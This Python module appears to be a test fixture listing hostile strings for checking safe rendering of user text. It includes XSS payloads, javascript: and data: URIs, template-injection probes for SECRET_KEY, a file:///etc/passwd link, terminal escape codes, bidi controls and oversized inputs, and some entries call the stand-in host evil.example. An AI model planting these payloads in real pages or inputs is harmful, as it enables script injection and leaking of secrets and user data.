"""Texts that try to run, to load something, to break out of their place on a page, or to be taken for another text."""

MARK = "hostile"
"""The id that elements would get, and the global that scripts would set, if a text were markup."""
SCRIPTS = [
    f"<script id={MARK}>window.{MARK}=1;alert(1)</script>",
    f"</textarea></script></style></title></pre></template><script id={MARK}>window.{MARK}=1</script>",
    f"<img id={MARK} src=x onerror='window.{MARK}=1;alert(1)'>",
    f"<svg id={MARK} onload='window.{MARK}=1'><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    f"<iframe id={MARK} srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object id={MARK} data='data:text/html,<script>parent.{MARK}=1</script>'></object>",
    f"<math id={MARK}><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>",
    f"<a id={MARK} href='javascript:window.{MARK}=1' autofocus onfocus=alert(1)>click</a>",
    f"<form id={MARK} action='https://evil.example/'><input name=q autofocus onfocus=alert(1)></form>",
    f"<div id={MARK} hx-get='/account/logout/' hx-trigger='load' hx-on::load='alert(1)'></div>",
    f"<link id={MARK} rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href='https://evil.example/'>",
    f"<style id={MARK}>@import 'https://evil.example/x.css'; body {{ display: none }}</style>",
    f'" onmouseover="window.{MARK}=1" id="{MARK}',
    f"' autofocus onfocus='window.{MARK}=1' id='{MARK}",
    "{{ settings.SECRET_KEY }}{% debug %}{# #}${7*7}<%= 7*7 %>",
    "]]><![CDATA[<script>alert(1)</script>]]>--><!-- <script>alert(1)//",
    "\\href{javascript:alert(1)}{x} $\\href{javascript:alert(1)}{x}$ \\(\\unicode{60}script\\)",
    f'$\\text{{<img id={MARK} src=x onerror=alert(1)>}}$ \\[\\class{{x" onclick="alert(1)}}{{y}}\\]',
]
LINKS = [
    "[click](javascript:alert(1)) ![x](https://evil.example/pixel.png) <https://evil.example/>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1) file:///etc/passwd //evil.example/x",
]
CONTROLS = [
    "\u202ereversed\u202c \u2066isolated \u200fmarks\u200e and no end \u202d",
    "e" + "\u0301" * 500 + " many marks on one letter",
    "\U0001f469\u200d" * 300 + "\U0001f467 joined without end",
    "\u200b\u200c\u200d\u2060\ufeff nothing to be seen \u115f\u3164",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[9999C \x9b31m",
    "a\rb\x08\x08\x7f\x01\x02 bells \x07\x07",
    "\ufffd\ufffe\uffff \U0010ffff \ue000",
]
LONG = [
    "x" * 20_000,  # letters that are moved closer to each other, as "W" is, take a browser seconds to break
    "\n" * 5000 + "after many lines",
    "<b>" * 2000,
    "\u0635\u0644\u0649 \ufdfa" * 500,
    "$" * 999 + "{" * 999,
]
HUGE = "x" * 10_000_000
TEXTS = [*SCRIPTS, *LINKS, *CONTROLS, *LONG]
